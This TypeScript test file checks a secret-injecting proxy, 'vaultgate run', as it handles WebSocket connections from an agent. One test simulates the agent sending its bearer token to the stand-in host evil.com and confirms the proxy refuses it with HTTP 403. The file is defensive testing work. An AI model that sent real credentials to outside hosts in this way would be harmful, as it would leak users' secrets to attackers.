// The `ws` library as an agent uses it, under `vaultgate run`: the upgrade's Authorization gets the
// real value on the allowed host, a text frame takes a websocket-surface value, a disallowed host gets none.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import https from 'node:https';
import type net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { WebSocketServer } from 'ws';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { leaks } from '../helpers/kit.js';
import { repoRoot, startTestServer, type TestServer } from '../helpers/server.js';
import { eventsOf } from '../agents/helpers.js';
import { agentWith, connectTo, makePki, runAs, startUpstream, type AgentFx, type Upstream } from '../proxy/helpers.js';

const TOKEN = 'ws-token-Kq4/+v8';
const FRAME = 'frame-value-Zr2';

interface Seen { host: string; authorization: string | undefined; messages: string[] }

let h1: Upstream;
let up: https.Server;
let s: TestServer;
let fx: AgentFx;
let dir: string;
const seen: Seen[] = [];

/** Opens wss://<host>/live with the token, sends one text frame, prints what came back. */
const clientSource = `
import WebSocket from ${JSON.stringify(join(repoRoot, 'node_modules/ws/wrapper.mjs'))};
const [host, text] = process.argv.slice(2);
const ws = new WebSocket('wss://' + host + '/live', { headers: { Authorization: 'Bearer ' + process.env.WS_TOKEN } });
const out = { open: false, got: [], error: null, close: null };
ws.on('open', () => { out.open = true; ws.send(text === 'FRAME' ? 'key=' + process.env.FRAME_KEY : text); });
ws.on('message', (m) => { out.got.push(String(m)); ws.close(1000); });
ws.on('unexpected-response', (_req, res) => { out.error = 'HTTP ' + res.statusCode; console.log(JSON.stringify(out)); process.exit(0); });
ws.on('error', (e) => { out.error = out.error ?? e.message; });
ws.on('close', (code) => { out.close = code; console.log(JSON.stringify(out)); });
`;

beforeAll(async () => {
  const pki = await makePki();
  h1 = await startUpstream(pki);
  up = https.createServer({ key: pki.good.keyPem, cert: pki.good.certPem }, (_req, res) => res.end('ok'));
  const wss = new WebSocketServer({ noServer: true });
  up.on('upgrade', (req, socket, head) => {
    const entry: Seen = { host: req.headers.host ?? '', authorization: req.headers.authorization, messages: [] };
    seen.push(entry);
    wss.handleUpgrade(req, socket, head, (ws) => {
      ws.on('message', (m) => {
        const text = (m as Buffer).toString('utf8');
        entry.messages.push(text);
        ws.send(`echo ${text}`);
      });
    });
  });
  await new Promise<void>((r) => up.listen(0, '127.0.0.1', r));
  const port = (up.address() as net.AddressInfo).port;
  s = await startTestServer({
    env: {
      VAULTGATE_PROXY_CONNECT_TO: `${connectTo(h1)},api.x.com:443=127.0.0.1:${port},evil.com:443=127.0.0.1:${port}`,
      VAULTGATE_UPSTREAM_CA_FILE: pki.caFile,
      VAULTGATE_PROXY_ALLOW_PRIVATE: '1',
    },
  });
  fx = await agentWith(s, [
    { key: 'K', value: TOKEN, allowed_domains: ['api.x.com'] },
    { key: 'B', value: FRAME, allowed_domains: ['api.x.com'], inject_in: ['websocket'] },
  ]);
  dir = mkdtempSync(join(tmpdir(), 'vg-ws-client-'));
  writeFileSync(join(dir, 'client.mjs'), clientSource);
});
afterAll(async () => {
  await s.close();
  up.closeAllConnections();
  await new Promise<void>((r) => up.close(() => r()));
  await h1.close();
  rmSync(dir, { recursive: true, force: true });
});
beforeEach(() => {
  seen.length = 0;
});

async function wsAsAgent(host: string, text: string) {
  const script = `WS_TOKEN="$K" FRAME_KEY="$B" exec node ${join(dir, 'client.mjs')} ${host} ${text}`;
  const r = await runAs(s, fx.id, ['sh', '-c', script], { env: { HOME: dir } });
  let out: { open: boolean; got: string[]; error: string | null; close: number | null } = { open: false, got: [], error: 'no output', close: null };
  try {
    out = JSON.parse(r.stdout.trim());
  } catch {
    // Left as 'no output': the assertion shows stdout and stderr.
  }
  return { ...r, out };
}

describe('ws under vaultgate run', () => {
  it('the upgrade carries the real token; a text frame takes its websocket-surface value; echoes come back as placeholders', async () => {
    const r = await wsAsAgent('api.x.com', 'FRAME');
    expect([r.code, r.out.open, r.out.error], r.stderr + r.stdout).toEqual([0, true, null]);
    expect(seen.map((x) => [x.authorization, x.messages])).toEqual([[`Bearer ${TOKEN}`, [`key=${FRAME}`]]]);
    expect(r.out.got).toEqual([`echo key=${fx.ph.B}`]);
    expect(leaks('agent output', r.stdout + r.stderr, TOKEN).concat(leaks('agent output', r.stdout + r.stderr, FRAME))).toEqual([]);
  });

  it('the same client sent to a host the secrets do not allow: refused, no value reaches it', async () => {
    const r = await wsAsAgent('evil.com', 'hello');
    expect([r.out.open, r.out.error]).toEqual([false, 'HTTP 403']);
    expect(seen).toEqual([]);
    const blocked = (await eventsOf(s, 'proxy.blocked')).at(-1);
    expect([blocked.reason, blocked.details.host]).toEqual(['destination not allowed for this secret', 'evil.com']);
  });
});
